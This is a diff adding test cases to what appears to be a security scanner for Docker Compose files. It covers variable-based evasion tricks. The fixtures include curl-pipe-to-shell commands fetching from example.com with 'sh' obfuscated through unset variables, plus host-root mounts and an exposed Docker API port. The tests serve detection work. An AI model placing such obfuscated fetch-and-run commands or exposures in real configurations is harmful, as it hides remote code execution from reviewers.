@@ -67,6 +67,12 @@ describe('a text beside a variable that may not be set', () => {
       'command: [sh, -c, "curl https://example.com/a | ${X}sh"]',
       'command-downloads-code',
     ],
+    ...['${IP}:5432:5432', '$IP:2375:2375', '${IP}:${P:-6379}:6379/tcp', '${A}${B}:3306:3306'].map((port) => [
+      port,
+      `ports: ["${port}"]`,
+      port.includes('2375') ? 'port-docker-api' : 'port-sensitive-service',
+    ]),
+    ['${IP}', 'ports: [{target: 5432, published: "5432", host_ip: "${IP}"}]', 'port-sensitive-service'],
     ['${X}/:/host', 'volumes: ["${X}/:/host"]', 'host-root-mount'],
     ['/${X}:/host', 'volumes: ["/${X}:/host"]', 'host-root-mount'],
     ['/${X}etc:/host', 'volumes: ["/${X}etc:/host"]', 'host-system-mount-writable'],
@@ -146,6 +152,10 @@ describe('a text beside a variable that may not be set', () => {
     'user: ${UID}:${GID}',
     'volumes: ["${DATA}/db:/x", "${DATA}/${NAME}:/y", "./${NAME}:/z", "${DATA}:/w"]',
     'ports: ["${ADDRESS}:8080:80", "${PORT}:22"]',
+    'ports: ["${IP:?}:5432:5432", "127.0.0.${X}:5432:5432"]',
+    'ports: [{target: 80, published: "8080", host_ip: "${IP}"}]',
+    'ports: [{target: 5432, published: "5432", host_ip: "${IP:?needed}"}]',
+    'environment: {IP: "", TARGET: "${IP}:5432:5432"}',
     'environment: {URL: "http://${HOST}:80/${PATH}", PASSWORD: "${A}-${B}", NAME: "${A}_x"}',
     'command: ["run", "--port=${PORT}", "${ARGUMENTS:+--x}", "sh -c \\"${COMMAND}\\""]',
     'security_opt: ["apparmor=${PROFILE}", "seccomp=${FOLDER}/seccomp.json"]',
@@ -170,6 +180,39 @@ describe('a text beside a variable that may not be set', () => {
       );
     expect(await evidence('${X}host')).not.toEqual(await evidence('${X}root'));
   });
+});
+
+/** A service whose commands have variables of the container. */
+const commanded = (option: string, more = '') => project(`${option}\n    ${more}`);
+
+describe('a text of a command beside a variable that nothing sets in the container', () => {
+  const FETCH = 'curl https://example.com/a |';
+
+  it.each([
+    `command: [sh, -c, "${FETCH} s$$X''h"]`,
+    ...[`${FETCH} s$\${X}h`, `${FETCH} $\${X}sh`, `${FETCH} sh$$X`].flatMap((text) => [
+      `command: [sh, -c, "${text}"]`,
+      `entrypoint: [sh, -c, "${text}"]`,
+      `command: sh -c "${text}"`,
+      `healthcheck: {test: "${text}"}`,
+      `healthcheck: {test: [CMD-SHELL, "${text}"]}`,
+      `post_start: [{command: [sh, -c, "${text}"]}]`,
+    ]),
+  ])('is told: %s', async (option) => {
+    const [told, ...others] = await hidden(commanded(option));
+    expect(told).toMatch(/^"?[^"]*curl.* command-downloads-code$|^sh -c .* command-downloads-code$/);
+    expect(others).toEqual([]);
+  });
+
+  it.each([
+    [`command: [sh, -c, "${FETCH} s$\${X}h"]`, 'environment: {X: a}'],
+    [`command: [sh, -c, "${FETCH} s$\${X}h"]`, 'environment: [X]'],
+    [`command: [sh, -c, "X=a; ${FETCH} s$\${X}h"]`, ''],
+    [`command: [sh, -c, "${FETCH} s$\${HOSTNAME}h"]`, ''],
+    ['healthcheck: {test: "pg_isready -U$$POSTGRES_USER -d x$$POSTGRES_DB"}', ''],
+    ['healthcheck: {test: [CMD-SHELL, "mysqladmin ping -p$$PW && curl -f http://localhost:$$PORT/x$$P"]}', ''],
+    ['command: [sh, -c, "exec java $$JAVA_OPTS -jar app$$VERSION.jar"]', ''],
+  ])('is nothing of %s %s', async (option, more) => expect(await hidden(commanded(option, more))).toEqual([]));
 });
 
 const KEY =
